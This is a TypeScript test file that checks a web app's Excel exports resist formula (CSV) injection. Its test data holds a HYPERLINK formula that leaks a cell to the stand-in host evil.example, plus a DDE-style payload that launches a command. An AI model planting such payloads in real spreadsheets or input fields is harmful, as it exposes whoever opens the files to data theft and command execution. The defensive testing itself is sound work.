import ExcelJS from 'exceljs';
import type { FastifyInstance } from 'fastify';
import { strFromU8, unzipSync } from 'fflate';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { Database } from '../../src/db/connect.ts';
import { addUser } from '../../src/domain/accounts/add-user.ts';
import { systemActor } from '../../src/domain/context.ts';
import { describeEachDatabase } from '../support/databases.ts';
import { login, seedOrganization, seedUser, TEST_PASSWORD, TestClock, testApp } from '../support/http.ts';
import { yunxiText } from '../support/yunxi.ts';

// Formula injection ("CSV injection", OWASP) through every .xlsx Duban writes: a unit renamed to a
// formula shows in the ledger and the evaluation, a user whose name is a formula in the audit
// export. Each workbook is opened: no cell is a formula (no <f> element in any sheet), no text
// cell starts with = + - @ tab or CR, and the hostile names are there, behind an apostrophe.

const UNIT = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")';
const PERSON = "@SUM(1+1)*cmd|' /C calc'!A0";
const DANGEROUS = /^[=+\-@\t\r]/;

/** Every text cell of every sheet, and whether any sheet holds a formula element. */
async function readWorkbook(bytes: Buffer): Promise<{ texts: string[]; formulas: number }> {
  const files = unzipSync(new Uint8Array(bytes));
  const formulas = Object.entries(files)
    .filter(([name]) => /^xl\/worksheets\/.*\.xml$/.test(name))
    .reduce((n, [, data]) => n + (strFromU8(data).match(/<f[\s>/]/g)?.length ?? 0), 0);
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(bytes as unknown as ArrayBuffer);
  const texts: string[] = [];
  book.eachSheet((sheet) =>
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof cell.value === 'string') texts.push(cell.value);
      }),
    ),
  );
  return { texts, formulas };
}

describeEachDatabase(
  'spreadsheet formula injection',
  (current) => {
    let app: FastifyInstance;
    let database: Database;
    let planId = 0;

    beforeAll(async () => {
      database = current();
      const { organizationId, office } = await seedOrganization(database);
      await seedUser(database, organizationId, 'duban', ['supervisor']);
      await seedUser(database, organizationId, 'shenji', ['auditor']);
      await addUser(
        {
          db: database.db,
          dialect: database.dialect,
          actor: systemActor(organizationId),
          now: () => new Date(),
        },
        {
          username: 'bgs',
          displayName: PERSON,
          password: TEST_PASSWORD,
          roles: ['department'],
          unit: '办公室',
        },
      );
      app = await testApp(database, { now: new TestClock(new Date('2024-04-20T02:00:00Z')).now });
      const supervisor = await login(app, 'duban');
      const imported = await app.inject({
        method: 'POST',
        url: '/api/plans',
        headers: supervisor.headers,
        payload: { text: yunxiText, createUnits: true },
      });
      planId = imported.json<{ id: number }>().id;
      await app.inject({ method: 'POST', url: `/api/plans/${planId}/publish`, headers: supervisor.headers });
      const renamed = await app.inject({
        method: 'PATCH',
        url: `/api/units/${office}`,
        headers: supervisor.headers,
        payload: { name: UNIT },
      });
      expect(renamed.statusCode).toBe(204);
      // The clerk's download puts PERSON into the audit trail.
      const clerk = await login(app, 'bgs');
      expect(
        (await app.inject({ method: 'GET', url: `/api/plans/${planId}/ledger.xlsx`, headers: clerk.headers }))
          .statusCode,
      ).toBe(200);
    });
    afterAll(() => app?.close());

    const download = async (username: string, url: string) => {
      const { headers } = await login(app, username);
      const response = await app.inject({ method: 'GET', url, headers });
      expect(response.statusCode, response.body.slice(0, 200)).toBe(200);
      return readWorkbook(response.rawPayload);
    };

    it('the ledger: the unit renamed to a formula is text behind an apostrophe, and no cell is a formula', async () => {
      const { texts, formulas } = await download('duban', `/api/plans/${planId}/ledger.xlsx`);
      expect(formulas).toBe(0);
      expect(texts.filter((t) => DANGEROUS.test(t))).toEqual([]);
      expect(texts).toContain(`'${UNIT}`);
    });

    it('the evaluation: the same', async () => {
      const { texts, formulas } = await download('duban', `/api/plans/${planId}/evaluation/xlsx`);
      expect(formulas).toBe(0);
      expect(texts.filter((t) => DANGEROUS.test(t))).toEqual([]);
      expect(texts).toContain(`'${UNIT}`);
    });

    it('the audit export: the user named as a formula is text behind an apostrophe, and no cell is a formula', async () => {
      const { texts, formulas } = await download('shenji', '/api/audit/export.xlsx');
      expect(formulas).toBe(0);
      expect(texts.filter((t) => DANGEROUS.test(t))).toEqual([]);
      expect(texts).toContain(`'${PERSON}（bgs）`);
    });
  },
  { fresh: 'all' },
);
